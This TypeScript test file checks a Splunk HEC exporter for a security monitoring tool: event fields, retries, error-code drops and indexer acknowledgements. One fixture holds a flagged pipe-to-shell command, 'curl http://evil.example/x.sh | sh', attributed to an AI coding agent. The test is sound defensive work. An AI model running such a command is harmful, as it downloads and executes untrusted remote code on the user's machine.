import t from 'tap';
import { splunkHecFactory } from '../../../src/exporters/splunk-hec/index.js';
import { batchOf, FLAGGED_SPAN, QUIET_LOG } from '../../helpers/batches.js';
import { configErrors, configOf } from '../../helpers/component-config.js';
import { HecStore } from '../../helpers/hec-receiver.js';
import { HttpReceiver, TEST_CONTEXT } from '../../helpers/http-receiver.js';

async function setup(t: Tap.Test, store: HecStore, options: Record<string, unknown> = {}) {
  const receiver = await HttpReceiver.start(store.respond);
  const hec = splunkHecFactory.create('splunk', configOf(splunkHecFactory.schema, { endpoint: receiver.url, token: 'tok', timeout: '1s', ...options }), TEST_CONTEXT);
  t.teardown(async () => { await hec.close(); await receiver.close(); });
  return { receiver, hec };
}

t.test('a batch of events: token, index, source, sourcetype, time, indexed fields', async (t) => {
  const store = new HecStore('tok');
  const { receiver, hec } = await setup(t, store, { index: 'security', sourcetype: 'vigil:event' });
  t.same(await hec.send(hec.encode(batchOf('traces', [FLAGGED_SPAN, { ...FLAGGED_SPAN, sequence: 5 }])), AbortSignal.timeout(2000)), { outcome: 'sent' });
  t.equal(receiver.requests.length, 1, 'one request for the batch');
  t.equal(store.events.length, 2);
  const [event] = store.events as { time: number; host: string; index: string; source: string; sourcetype: string; event: Record<string, unknown>; fields: Record<string, unknown> }[];
  t.equal(event.time, 1700000000);
  t.equal(event.host, 'dev-1');
  t.equal(event.index, 'security');
  t.equal(event.source, 'vigil');
  t.equal(event.sourcetype, 'vigil:event');
  t.equal(event.event['process.command_line'], 'curl http://evil.example/x.sh | sh');
  t.same(event.fields, { vigil_event_id: event.event['event.id'], signal: 'span', risk_level: 'high', rule: ['pipe-to-shell'], service: 'claude-code' });
});

t.test('busy and broken answers retry, a bad token or data drops with the HEC code', async (t) => {
  const store = new HecStore('tok');
  const { receiver, hec } = await setup(t, store);
  const batch = hec.encode(batchOf('logs', [QUIET_LOG]));
  receiver.plan({ status: 503, body: '{"text":"Server is busy","code":9}', headers: { 'retry-after': '5' } }, { status: 500 }, 'reset', { status: 429 }, { delayMs: 1500 });
  const outcomes = [];
  for (let i = 0; i < 6; i++) outcomes.push(await hec.send(batch, AbortSignal.timeout(2000)));
  t.same(outcomes.map((o) => o.outcome), ['retry', 'retry', 'retry', 'retry', 'retry', 'sent']);
  t.same(outcomes[0], { outcome: 'retry', reason: 'http_503', retryAfterMs: 5000 });
  t.equal((outcomes[4] as { reason: string }).reason, 'timeout', 'a slow answer past the deadline');
  // HEC cannot fold repeats itself: the slow answer's events arrived too, with the same event id
  t.equal(store.events.length, 2);
  const ids = store.events.map((e) => (e.fields as { vigil_event_id: string }).vigil_event_id);
  t.equal(ids[0], ids[1]);

  receiver.plan({ status: 400, body: '{"text":"Invalid data format","code":6}' });
  t.same(await hec.send(batch, AbortSignal.timeout(2000)), { outcome: 'drop', reason: 'hec_6', count: 1 });
  const wrong = splunkHecFactory.create('x', configOf(splunkHecFactory.schema, { endpoint: receiver.url, token: 'nope' }), TEST_CONTEXT);
  t.teardown(() => wrong.close());
  t.same(await wrong.send(batch, AbortSignal.timeout(2000)), { outcome: 'drop', reason: 'hec_4', count: 1 });
});

t.test('indexer acknowledgement: sent only once the ack id is confirmed on the channel', async (t) => {
  const store = new HecStore('tok', 2);
  const { receiver, hec } = await setup(t, store, { ack: { enabled: true, channel: '0aeeac95-ac74-4aa9-b30d-6c4c0ac581ba', poll_interval: '20ms' } });
  t.same(await hec.send(hec.encode(batchOf('logs', [QUIET_LOG])), AbortSignal.timeout(2000)), { outcome: 'sent' });
  const polls = receiver.requests.filter((r) => r.url === '/services/collector/ack');
  t.equal(polls.length, 3, 'two pending answers, then true');
  t.ok(receiver.requests.every((r) => r.headers['x-splunk-request-channel'] === '0aeeac95-ac74-4aa9-b30d-6c4c0ac581ba'));
  t.same(JSON.parse(polls[0].body.toString()), { acks: [0] });
});

t.test('an ack that never comes means the batch is sent again', async (t) => {
  const store = new HecStore('tok', Number.MAX_SAFE_INTEGER);
  const { hec } = await setup(t, store, { ack: { enabled: true, poll_interval: '20ms', timeout: '100ms' } });
  t.same(await hec.send(hec.encode(batchOf('logs', [QUIET_LOG])), AbortSignal.timeout(2000)), { outcome: 'retry', reason: 'hec_ack_timeout' });
});

t.test('config', async (t) => {
  const config = configOf(splunkHecFactory.schema);
  t.equal(config.sourcetype, '_json');
  t.equal(config.ack.enabled, false);
  t.ok(configErrors(splunkHecFactory.schema, { ack: { enable: true } }).length > 0, 'a typo under ack is refused');
});
